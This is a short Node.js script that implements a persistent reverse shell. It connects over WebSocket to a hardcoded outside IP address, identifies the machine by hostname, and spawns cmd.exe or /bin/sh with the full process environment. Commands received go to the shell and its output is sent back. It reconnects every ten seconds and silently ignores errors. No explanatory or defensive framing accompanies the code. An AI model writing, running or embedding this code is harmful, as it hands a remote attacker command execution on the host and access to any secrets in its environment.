const WebSocket = require('ws');
const { spawn } = require('child_process');
const os = require('os');

function connect() {
  const ws = new WebSocket('ws://203.0.113.90:8080/n', { headers: { 'x-id': os.hostname() } });
  ws.on('open', () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { env: process.env });
    ws.on('message', (d) => sh.stdin.write(d + '\n'));
    sh.stdout.on('data', (d) => ws.send(d));
    sh.stderr.on('data', (d) => ws.send(d));
    ws.on('close', () => sh.kill());
  });
  ws.on('close', () => setTimeout(connect, 10000));
  ws.on('error', () => {});
}

connect();
